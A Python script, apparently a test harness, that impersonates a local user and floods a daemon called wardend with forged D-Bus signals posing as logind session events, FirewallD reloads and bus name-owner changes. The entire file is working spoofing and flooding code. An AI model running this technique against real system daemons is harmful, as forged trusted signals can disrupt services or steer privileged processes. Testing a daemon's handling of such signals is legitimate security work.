"""A local user who sends wardend signals that others would send: usage: forge.py USER KIND.

They go to wardend's own connections, from one of the user's, as fast as the bus takes them, until the
program is stopped; then it prints how many it were.
"""
import os, pwd, signal, socket, struct, sys, time
import dbus

user, kind = pwd.getpwnam(sys.argv[1]), sys.argv[2]
LOGIN, FIREWALLD, BUS = "/org/freedesktop/login1", "/org/fedoraproject/FirewallD1", "/org/freedesktop/DBus"
KINDS = {  # path, interface, member, signature, arguments
    "login": [(LOGIN, "org.freedesktop.login1.Manager", member, "so", ("x", f"{LOGIN}/session/x"))
              for member in ("SessionNew", "SessionRemoved")],
    "reloaded": [(FIREWALLD, "org.fedoraproject.FirewallD1", "Reloaded", "", ())],
    "owner": [(BUS, "org.freedesktop.DBus", "NameOwnerChanged", "sss", ("org.fedoraproject.FirewallD1", ":1.1", ""))],
}


def string(text):
    return struct.pack("<I", len(text)) + text.encode() + b"\0"


def padded(data, to):
    return data + bytes(-len(data) % to)


def message(code, flags, destination, path, interface, member, signature="", arguments=()):
    fields = b""
    for field, type_, text in ((1, b"o", path), (2, b"s", interface), (3, b"s", member), (6, b"s", destination)):
        fields = padded(fields, 8) + bytes([field, 1]) + type_ + b"\0" + string(text)
    if signature:
        fields = padded(fields, 8) + bytes([8, 1]) + b"g\0" + bytes([len(signature)]) + signature.encode() + b"\0"
    body = b""
    for argument in arguments:
        body = padded(body, 4) + (struct.pack("<I", argument) if isinstance(argument, int) else string(argument))
    return padded(struct.pack("<cBBBIII", b"l", code, flags, 1, len(body), 1, len(fields)) + fields, 8) + body


def connect():
    line = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    line.connect("/run/dbus/system_bus_socket")
    line.sendall(b"\0AUTH EXTERNAL " + str(user.pw_uid).encode().hex().encode() + b"\r\n")
    assert line.recv(4096).startswith(b"OK")
    line.sendall(b"BEGIN\r\n" + message(1, 0, "org.freedesktop.DBus", BUS, "org.freedesktop.DBus", "Hello"))
    line.recv(4096)
    return line


os.setresuid(user.pw_uid, user.pw_uid, user.pw_uid)
bus = dbus.Interface(dbus.SystemBus().get_object("org.freedesktop.DBus", BUS), "org.freedesktop.DBus")
wardend = pwd.getpwnam("wardend").pw_uid


def belongs(name):
    try:
        return bus.GetConnectionUnixUser(name) == wardend
    except dbus.DBusException:
        return False


targets = [name for name in map(str, bus.ListNames()) if name.startswith(":") and belongs(name)]
# No answer is wanted: nobody would read it.
forged = [message(4, 1, target, *what) for target in targets for what in KINDS[kind]]
chunk, sent = b"".join(forged) * 50, 0


def stop(*_):
    print("sent", sent, flush=True)
    os._exit(0)


signal.signal(signal.SIGTERM, stop)
print("to", len(targets), flush=True)
line = connect()
while True:
    try:
        line.sendall(chunk)
        sent += 50 * len(forged)
    except OSError:  # The bus has thrown us out.
        time.sleep(0.1)
        line = connect()
